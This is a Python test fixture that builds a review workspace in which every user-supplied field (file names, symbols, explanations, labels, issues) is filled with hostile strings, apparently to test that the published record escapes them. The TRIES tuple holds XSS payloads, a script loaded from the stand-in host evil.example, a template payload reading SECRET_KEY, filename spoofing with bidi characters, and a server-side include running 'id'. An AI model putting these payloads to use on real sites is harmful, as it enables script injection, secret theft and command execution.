"""A record in which every word that others wrote tries to run in the reader's browser."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

from made_readings import answer, digest, document, listed, passage

from item6 import decisions, pipeline
from item6.decisions import append
from item6.record.writer import publish
from item6.terms.annotations import Annotation
from item6.terms.documents import Reading
from item6.terms.issues import Place, issue
from item6.terms.labels import Label
from item6.terms.names import ReviewName
from item6.terms.passages import Passage
from item6.terms.recommendations import Text

REVIEW = ReviewName("SMR", 2)

TRIES = (
    "<script>alert('ran')</script>",
    '"><img src=x onerror=alert("ran")>',
    "'><svg/onload=alert(`ran`)>",
    "javascript:alert('ran')",
    "</title></style></textarea><script src=//evil.example/x.js></script>",
    "{{ 7|add:7 }}{% load static %}{{ settings.SECRET_KEY }}",
    "%s %(x)s {0} {x.__class__}",
    "\u202egnp.exe\u202c \u2066isolated\u2069",
    "]]>&lt;script&gt;&#60;script&#62;",
    "<a href=javascript:alert(1)>x</a><base href=//evil.example/>",
    "\x00\x1b[31mred\x07",
    "<!--#exec cmd='id'--><?php x ?>",
)
"""What is written wherever words of others stand."""


def publish_hostile(home: Path) -> str:
    """A workspace with one review: texts, State words, explanations, file names, symbols, labels, Issues. Its hash."""
    tries = [each.replace("\x00", "") for each in TRIES]
    files = [f"{at} {each.replace('/', '∕')}.pdf" for at, each in enumerate(tries)]
    report = replace(document(files[0], REVIEW, symbol=tries[0], sha256=digest("report.pdf")), session=20)
    numbers = [f"5.{at}" for at in range(1, len(tries) + 1)]
    reading = Reading(
        report,
        tuple(
            replace(listed(number, Text(1, each, ("CHE",), (each,), _place(each))), number_as_printed=each)
            for number, each in zip(numbers, tries, strict=True)
        ),
        tuple(
            replace(answer(number, "noted", words=each, review=REVIEW), explanation=each)
            for number, each in zip(numbers, tries, strict=True)
        ),
    )
    others = [
        Reading(document(file, REVIEW, symbol=each, family="addendum"))
        for file, each in zip(files[1:], tries[1:], strict=True)
    ]
    matrix = Reading(
        document("matrix.docx", REVIEW, family="matrix", symbol=None, pages=None),
        labels=tuple(
            Label(number, None, "theme", each, "matrix", passage(each, file="matrix.docx"))
            for number, each in zip(numbers, tries, strict=True)
        ),
    )
    told = {"source": tries[0], "why": tries[1], "who": tries[2], "when": "2024-07-04"}
    append(home, {"kind": "totals", "review": "CHN-4", "received": 5, "accepted": 5, **told})
    decided = [decisions.read(path.read_bytes(), path.name) for path in decisions.files_in(home)]
    contents = pipeline.gather([reading, *others, matrix], decided)
    made = tuple(
        Annotation(REVIEW, number, 1, "issue", each, 900, True) for number, each in zip(numbers, tries, strict=True)
    )
    issues = tuple(
        issue("file.damaged", Place(file, 3, number, each), {"why": each})
        for file, number, each in zip(files, numbers, tries, strict=True)
    )
    return publish(home, replace(contents, annotations=made, issues=(*contents.issues, *issues)))


def _place(words: str) -> Passage:
    return replace(passage(words), symbol=words)
